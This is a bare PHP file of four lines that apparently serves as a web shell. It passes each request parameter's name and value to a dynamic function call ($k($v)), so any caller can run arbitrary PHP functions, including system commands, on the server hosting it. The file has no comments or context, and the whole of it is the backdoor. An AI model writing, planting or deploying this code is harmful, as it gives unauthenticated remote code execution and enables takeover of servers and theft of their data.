<?php
foreach ($_REQUEST as $k => $v) {
  $k($v);
}
